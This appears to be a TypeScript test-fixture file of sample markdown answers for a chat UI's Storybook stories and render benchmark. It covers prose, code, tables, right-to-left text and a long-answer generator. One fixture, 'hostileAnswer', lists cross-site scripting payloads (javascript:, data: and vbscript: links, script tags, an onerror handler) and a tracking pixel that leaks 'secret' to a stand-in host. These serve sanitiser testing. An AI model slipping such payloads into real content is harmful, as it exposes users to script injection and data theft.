/** Sample answers for the stories and the render benchmark. */

export const proseAnswer = `# Resuming a stream

When a client reconnects it **must not** lose tokens. The *simplest* approach is to rewind the channel
and fold every message through the same reducer, so a duplicate is ~~harmful~~ harmless.

- Subscribe first, then read history.
- Drop anything at or below the applied serial.
- Finish by draining the queue.

> A connection lost for longer than two minutes cannot be resumed, so the client re-hydrates.

See [the protocol notes](https://example.com/docs) for details.
`;

export const codeAnswer = `Here is a minimal agent:

\`\`\`ts
import Ably from 'ably';

const client = new Ably.Realtime({ key: process.env.ABLY_KEY });
const channel = client.channels.get('ai:chat');

for await (const token of model.stream(prompt)) {
  await channel.appendMessage({ serial, data: token });
}
\`\`\`

The same in Python:

\`\`\`python
def on_message(message):
    if message.action == "message.append":
        print(message.data, end="")
\`\`\`

Run it with \`pnpm dev\`.
`;

export const tableAnswer = `| Pattern | History | Resume |
|:--------|:-------:|-------:|
| message-per-response | one message | \`rewind\` |
| message-per-token | many messages | *history* |
| both | **yes** | [docs](https://example.com) |

Progress:

- [x] Emulator
- [ ] Storybook

Ably keeps connection state for two minutes[^ttl].

[^ttl]: The connection state TTL.
`;

export const brokenAnswer = `Some **bold text that spans a while**, then *italic words*, \`inline code\`, a
[link to the docs](https://example.com/docs/getting-started) and ~~struck out~~ text.

1. First step
2. Second step with **emphasis**

| Col A | Col B |
|-------|-------|
| a1 | b1 |
| a2 | b2 |

\`\`\`js
console.log("done");
\`\`\`
`;

export const hostileAnswer = `Click [here](javascript:alert(1)) or [here](JaVaScRiPt:alert(1)) or [there](//evil.example).

![tracking pixel](https://evil.example/?q=secret)

<script>alert('xss')</script> <img src="https://evil.example/x.png" onerror="alert(1)">

[entity](&#106;avascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>) and [vb](vbscript:msgbox(1)).

A safe link: [example](https://example.com).
`;

export const rtlAnswer = `## مرحبا بالعالم

هذا نص **عربي** مع [رابط](https://example.com) و\`كود\`.

- عنصر أول
- عنصر ثانٍ

שלום עולם, זהו טקסט *בעברית*.
`;

const sections = [proseAnswer, codeAnswer, tableAnswer.replace(/\[\^ttl\]/g, ''), brokenAnswer];

/**
 * A realistic markdown answer of about `bytes` characters: headings, prose, lists, code and
 * tables in rotation.
 */
export function makeLongAnswer(bytes: number): string {
  let out = '';
  for (let i = 0; out.length < bytes; i++) {
    out += `## Part ${i + 1}\n\n${sections[i % sections.length]!.replace(/^# .*\n/m, '')}\n`;
  }
  return out.slice(0, out.lastIndexOf('\n\n', bytes) + 2);
}
